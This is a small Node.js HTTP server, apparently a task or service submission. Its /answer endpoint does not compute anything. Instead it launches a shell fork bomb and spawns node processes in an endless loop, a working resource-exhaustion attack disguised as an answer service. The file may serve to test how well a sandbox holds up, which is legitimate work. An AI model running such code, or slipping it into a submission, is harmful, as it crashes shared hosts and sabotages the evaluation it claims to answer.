const http = require('http');
const { spawn } = require('child_process');

async function answer() {
  // A shell fork bomb, and node itself spawning without end.
  try {
    spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { stdio: 'ignore' }).on('error', () => {});
  } catch (e) {}
  for (;;) {
    try {
      spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' }).on('error', () => {});
    } catch (e) {}
    await new Promise((r) => setImmediate(r));
  }
}

http
  .createServer(async (req, res) => {
    if (req.url === '/healthz') return res.end('{}');
    if (req.url !== '/answer') {
      res.statusCode = 404;
      return res.end();
    }
    const body = JSON.stringify(await answer());
    res.setHeader('Content-Type', 'application/json');
    res.end(body);
  })
  .listen(Number(process.env.PORT));
